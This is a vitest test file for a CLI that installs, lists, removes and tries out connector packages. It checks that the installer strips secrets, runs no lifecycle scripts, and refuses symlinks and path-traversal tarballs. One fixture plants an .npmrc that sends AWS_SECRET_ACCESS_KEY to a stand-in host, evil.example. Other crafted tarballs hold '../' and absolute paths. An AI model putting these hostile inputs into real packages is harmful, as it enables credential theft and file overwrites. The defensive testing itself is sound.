import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Desk, openDesk } from '../cli/support.ts';
import { classWith, ECHO, manifestText, newFolder, writeConnector } from './support.ts';

let desk: Desk;
beforeAll(async () => {
  desk = await openDesk();
});
afterAll(() => desk.remove());

const run = (...args: string[]) => desk.inProcess(['connector', ...args]);
const installedIn = () => join(desk.env.MEM_DATA_DIR as string, 'connectors');
const json = async (...args: string[]) => JSON.parse((await run(...args, '--json')).out);

/** What `npm pack` makes of a folder. */
function pack(folder: string): string {
  const args = ['pack', '--ignore-scripts', '--json', '--pack-destination', folder];
  const out = execFileSync('npm', args, { cwd: folder, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
  return join(folder, JSON.parse(out)[0].filename);
}

const packageFile = (name: string, more: Record<string, unknown> = {}) =>
  JSON.stringify({ name: `amfs-connector-${name}`, version: '1.0.0', type: 'module', ...more });

const sources = (name: string, more: Record<string, unknown> = {}, files: Record<string, string> = {}) =>
  writeConnector(join(newFolder(), name), classWith(ECHO), {
    files: { 'package.json': packageFile(name, more), ...files },
  });

describe('mem connector new', () => {
  it('writes a connector whose test passes, that can be tried, packed and installed', async () => {
    const made = await json('new', 'acme-eu');
    expect(readdirSync(made.folder).sort()).toEqual(
      ['README.md', 'connector.yaml', 'package.json', 'payload.json', 'transform.js', 'transform.test.js'].sort(),
    );
    // Without the variable that the tests of this project run under.
    const env = { PATH: process.env.PATH ?? '' };
    expect(execFileSync('npm', ['test'], { cwd: made.folder, encoding: 'utf8', env })).toContain('# pass 1');
    const tried = await json('test', made.folder, join(made.folder, 'payload.json'));
    expect(tried).toMatchObject({
      connector: 'acme-eu',
      event_type: 'ticket.opened',
      id: 'evt-1',
      transformed: { results: [{ entity_path: 'tickets/acme-eu', key: 'ticket-7', value: { state: 'open' } }] },
    });
    const tarball = pack(made.folder);
    expect(await json('install', tarball)).toEqual({
      name: 'acme-eu',
      version: '0.1.0',
      replaced: null,
      folder: join(installedIn(), 'acme-eu'),
      missing_variables: ['MEM_CONNECTOR_ACME_EU_SECRET'],
    });
    expect(readdirSync(join(installedIn(), 'acme-eu')).sort()).toEqual(
      ['README.md', 'connector.yaml', 'package.json', 'transform.js'].sort(),
    );
    expect(await json('install', made.folder)).toMatchObject({ replaced: '0.1.0' });
    expect((await run('new', 'acme-eu')).err).toContain('there is a folder');
  });

  it.each(['Acme', 'acme_eu', '../acme', '-'])('refuses the name %s', async (name) => {
    expect(await run('new', '--', name)).toMatchObject({ code: 2, err: expect.stringContaining('small letters') });
  });
});

describe('mem connector install', () => {
  it('takes a folder, without its repository, its packages and its secrets', async () => {
    const folder = sources('from-folder', {}, { '.git/HEAD': 'x', '.npmrc': 'token', '.env': 'x', 'lib/a.js': '1' });
    expect((await run('install', folder)).code).toBe(0);
    const at = join(installedIn(), 'from-folder');
    expect(readdirSync(at).sort()).toEqual(['connector.yaml', 'lib', 'package.json', 'transform.mjs']);
    expect(readdirSync(installedIn()).filter((name) => name.startsWith('.'))).toEqual([]);
  });

  it('runs no script of the package, and brings its dependencies into its own folder', async () => {
    const traces = newFolder();
    const touch = (name: string) => `node -e "require('fs').writeFileSync('${join(traces, name)}', '')"`;
    const scripts = Object.fromEntries(
      ['preinstall', 'install', 'postinstall', 'prepare', 'prepack', 'prepublish'].map((name) => [name, touch(name)]),
    );
    const needed = newFolder();
    writeFileSync(
      join(needed, 'package.json'),
      JSON.stringify({ name: 'units', version: '1.0.0', scripts, type: 'module' }),
    );
    writeFileSync(join(needed, 'index.js'), `export const path = 'units/of/measure';`);
    const folder = sources('needing', { scripts, dependencies: { units: `file:${pack(needed)}` } });
    writeFileSync(
      join(folder, 'transform.mjs'),
      `import { path } from 'units';\n${classWith(ECHO).replace(`'a'`, 'path')}`,
    );
    const { code, err } = await run('install', pack(folder));
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(readdirSync(traces)).toEqual([]);
    expect(existsSync(join(installedIn(), 'needing', 'node_modules', 'units', 'index.js'))).toBe(true);
    expect(existsSync(join(installedIn(), 'node_modules'))).toBe(false);
    const payload = join(newFolder(), 'payload.json');
    writeFileSync(payload, '{"id":"1"}');
    expect(await json('test', 'needing', payload)).toMatchObject({
      transformed: { results: [{ entity_path: 'units/of/measure' }] },
    });
  });

  it.each([
    ['without a manifest', { 'connector.yaml': undefined }, 'connector.yaml is missing'],
    [
      'with faults in its manifest',
      { 'connector.yaml': 'name: A\n' },
      'connector.yaml:1:7: name must have small letters',
    ],
    [
      'with the name of a built-in one',
      { 'connector.yaml': manifestText('github') },
      'github is the name of a built-in connector',
    ],
    [
      'that registers another class',
      { 'package.json': packageFile('bad', { 'amfs.connectors': { bad: 'other:Class' } }) },
      'disagree',
    ],
    [
      'without its module',
      { 'connector.yaml': manifestText('bad', { entry_point: 'src.x:Y' }) },
      'there is no src/x.js',
    ],
    [
      'whose module does not parse',
      { 'transform.mjs': 'export class Tested {\n  transform( {\n}' },
      'the module of bad does not load: SyntaxError',
    ],
    ['whose module does not parse, with the line', { 'transform.mjs': 'export class {\n' }, 'transform.mjs:1'],
    ['without its class', { 'transform.mjs': 'export class Other {}' }, 'transform.mjs exports no class Tested'],
    [
      'for a newer service',
      { 'connector.yaml': manifestText('bad', { min_amfs_version: '9.9.9' }) },
      'asks for mem 9.9.9',
    ],
  ])('refuses a package %s, and leaves nothing behind', async (_, files, message) => {
    const folder = writeConnector(join(newFolder(), 'bad'), classWith(ECHO));
    for (const [file, text] of Object.entries(files as Record<string, string | undefined>))
      if (text === undefined) execFileSync('rm', [join(folder, file)]);
      else writeFileSync(join(folder, file), text);
    const before = existsSync(installedIn()) ? readdirSync(installedIn()) : [];
    expect(await run('install', folder)).toMatchObject({ code: 2, err: expect.stringContaining(message) });
    expect(readdirSync(installedIn())).toEqual(before);
  });

  it('takes one whose constructor needs variables that are not set yet', async () => {
    const folder = sources('needy');
    writeFileSync(
      join(folder, 'transform.mjs'),
      `export class Tested { constructor() { throw new Error('no token'); } transform() { return []; } }`,
    );
    expect((await run('install', folder)).code).toBe(0);
  });

  it('refuses links in a folder', async () => {
    const folder = sources('linking');
    symlinkSync('/etc/hostname', join(folder, 'hostname'));
    expect(await run('install', folder)).toMatchObject({ code: 2, err: expect.stringContaining('no plain file') });
  });

  it('keeps the old one when the new one is bad', async () => {
    const folder = sources('kept');
    await run('install', folder);
    writeFileSync(join(folder, 'connector.yaml'), 'name: kept\n');
    expect((await run('install', folder)).code).toBe(2);
    expect(readFileSync(join(installedIn(), 'kept', 'connector.yaml'), 'utf8')).toContain('version: "1.0.0"');
  });

  it.each(['acme/thing', 'acme thing', 'Acme', 'git+https://example.com/a', '--global', './nothing'])(
    'takes %s for neither a name nor a package',
    async (given) => {
      expect((await run('install', '--', given)).code).toBe(2);
    },
  );

  it('asks the registry for amfs-connector-<name>, without variables of this service', async () => {
    // A registry that refuses connections: its address and the name are in the message of npm.
    const env = {
      npm_config_registry: 'http://127.0.0.1:9/',
      npm_config_fetch_retries: '0',
      MEM_API_KEYS: 'a-long-key-of-tests',
    };
    const { code, err } = await desk.inProcess(['connector', 'install', 'acme'], { env });
    expect(code).toBe(2);
    expect(err).toContain('http://127.0.0.1:9/amfs-connector-acme');
  });
});

describe('a tarball', () => {
  const header = (path: string, { size = 0, type = '0' } = {}) => {
    const block = Buffer.alloc(512);
    block.write(path, 0, 100);
    block.write('0000644\0', 100);
    block.write(`${size.toString(8).padStart(11, '0')}\0`, 124);
    block.write(type, 156);
    block.write('ustar\0', 257);
    return block;
  };
  const tarball = (...blocks: Buffer[]) => {
    const file = join(newFolder(), 'bad.tgz');
    writeFileSync(file, gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)])));
    return file;
  };
  const long = (path: string) => {
    const record = ` path=${path}\n`;
    const text = Buffer.alloc(512);
    text.write(`${record.length + 2}${record}`);
    return [header('PaxHeader', { size: 512, type: 'x' }), text];
  };

  it.each([
    ['a path that leads out of it', () => tarball(header('package/../../escaped')), 'with the path'],
    ['an absolute path', () => tarball(header('/etc/escaped')), 'with the path'],
    ['a long path that leads out of it', () => tarball(...long('package/../../escaped'), header('x')), 'with the path'],
    ['a path of Windows', () => tarball(header('package/..\\escaped')), 'with the path'],
    ['a link', () => tarball(header('package/link', { type: '2' })), 'no plain file'],
    ['a hard link', () => tarball(header('package/link', { type: '1' })), 'no plain file'],
    ['a device', () => tarball(header('package/null', { type: '3' })), 'no plain file'],
    ['a file that is cut off', () => tarball(header('package/a', { size: 1e6 })), 'cut off'],
    [
      'too many files',
      () => tarball(...Array.from({ length: 2001 }, (_, i) => header(`package/${i}`))),
      'more than 2000 files',
    ],
    ['too many bytes', () => tarball(header('package/a', { size: 40e6 }), Buffer.alloc(40e6)), 'more than 32 MiB'],
    ['nothing', () => tarball(), 'no files'],
  ])('with %s is refused', async (_, make, message) => {
    expect(await run('install', make())).toMatchObject({ code: 2, err: expect.stringContaining(message) });
    expect(existsSync(join(desk.folder, 'escaped'))).toBe(false);
  });

  it('is unpacked without settings of npm, and npm gets no variables that it does not need', async () => {
    const file = (path: string, text: string) => {
      const padded = Buffer.alloc(Math.ceil(text.length / 512) * 512);
      padded.write(text);
      return [header(`package/${path}`, { size: text.length }), padded];
    };
    // Instead of npm, a program that writes down its environment.
    const bin = newFolder();
    const seen = join(bin, 'seen.json');
    const program = `#!${process.execPath}\nrequire('fs').writeFileSync(${JSON.stringify(seen)}, JSON.stringify(process.env));`;
    writeFileSync(join(bin, 'npm'), program, { mode: 0o755 });
    const hostile = tarball(
      ...file('connector.yaml', manifestText('sneaky')),
      ...file('transform.mjs', classWith(ECHO)),
      ...file('package.json', packageFile('sneaky', { dependencies: { units: '1.0.0' } })),
      ...file('.npmrc', `registry=https://evil.example/\${AWS_SECRET_ACCESS_KEY}/`),
      ...file('lib/.env', 'x'),
      ...file('node_modules/units/index.js', '1'),
    );
    const env = {
      PATH: `${bin}:${process.env.PATH}`,
      AWS_SECRET_ACCESS_KEY: 'swordfish',
      npm_config_registry: 'https://r.example',
    };
    const { code, err } = await desk.inProcess(['connector', 'install', hostile], { env });
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(readdirSync(join(installedIn(), 'sneaky')).sort()).toEqual([
      'connector.yaml',
      'package.json',
      'transform.mjs',
    ]);
    const variables = JSON.parse(readFileSync(seen, 'utf8'));
    expect(variables).toMatchObject({ npm_config_registry: 'https://r.example' });
    expect(JSON.stringify(variables)).not.toContain('swordfish');
  });

  it('that is none is refused', async () => {
    const file = join(newFolder(), 'text.tgz');
    writeFileSync(file, 'text');
    expect((await run('install', file)).err).toContain('this is no package');
  });
});

describe('mem connector list and remove', () => {
  it('show and remove what is installed', async () => {
    await run('install', sources('listed'));
    mkdirSync(join(installedIn(), 'broken'));
    const env = { MEM_CONNECTOR_LISTED_SECRET: 'a-secret-of-tests', MEM_CONNECTOR_SLACK_UNSIGNED: 'loopback' };
    const { code, out } = await desk.inProcess(['connector', 'list', '--json'], { env });
    expect(code).toBe(1);
    const { connectors } = JSON.parse(out);
    const named = (name: string) => connectors.find((one: { name: string }) => one.name === name);
    expect(named('listed')).toEqual({
      name: 'listed',
      version: '1.0.0',
      source: 'installed',
      secret_set: true,
      unsigned: false,
      missing_variables: [],
      problems: [],
    });
    expect(named('github')).toMatchObject({ source: 'built-in', secret_set: false });
    expect(named('slack')).toMatchObject({ unsigned: true });
    expect(named('broken').problems[0]).toContain('connector.yaml is missing');
    expect((await run('list')).out).toMatch(/^listed +1\.0\.0 +installed +not set/m);
    expect(out).not.toContain('a-secret-of-tests');
    expect((await run('remove', 'broken')).code).toBe(0);
    expect((await run('remove', 'listed')).out).toContain('removed listed');
    expect(await run('remove', 'listed')).toMatchObject({ code: 3 });
    expect(await run('remove', '..')).toMatchObject({ code: 3 });
    expect(await run('remove', 'github')).toMatchObject({ code: 2, err: expect.stringContaining('built in') });
  });
});

describe('mem connector test', () => {
  const payload = (value: unknown) => {
    const file = join(newFolder(), 'payload.json');
    writeFileSync(file, JSON.stringify(value));
    return file;
  };

  it('runs a built-in one too, with headers', async () => {
    const body = { zen: 'x', repository: { full_name: 'acme/shop' } };
    const headers = JSON.stringify({ 'X-GitHub-Event': 'ping', 'X-GitHub-Delivery': 'd-1' });
    expect(await json('test', 'github', payload(body), '--headers', headers)).toMatchObject({
      connector: 'github',
      event_type: 'ping',
      id: 'd-1',
    });
  });

  it('shows what is printed and why it failed, and fails', async () => {
    const folder = writeConnector(
      join(newFolder(), 'loud'),
      classWith(`console.log('looking');\n    throw new Error('no');`),
    );
    const { code, out, err } = await run('test', folder, payload({}));
    expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining('looking') });
    expect(out).toMatch(/failed: Error: no \(transform\.mjs:\d+:\d+\)/);
  });

  it('refuses payloads that are not there or not JSON, and headers that are none', async () => {
    const bad = join(newFolder(), 'bad.json');
    writeFileSync(bad, '{');
    expect(await run('test', 'github', bad)).toMatchObject({ code: 2, err: expect.stringContaining('is not JSON') });
    expect((await run('test', 'github', '/nowhere.json')).err).toContain('there is no such file');
    expect((await run('test', 'github', payload({}), '--headers', '[1]')).err).toContain('JSON object of texts');
    expect((await run('test', 'nothing', payload({}))).err).toContain('there is no connector nothing');
  });
});

describe('mem connector', () => {
  it('says what it can do', async () => {
    expect((await run()).err).toContain('mem connector install|list|remove|test|new|replay');
    expect((await run('list', 'more')).err).toContain('does not take "more"');
    expect((await run('install')).err).toContain('needs more');
    expect((await run('--help')).out).toContain('mem connector replay --all');
  });
});
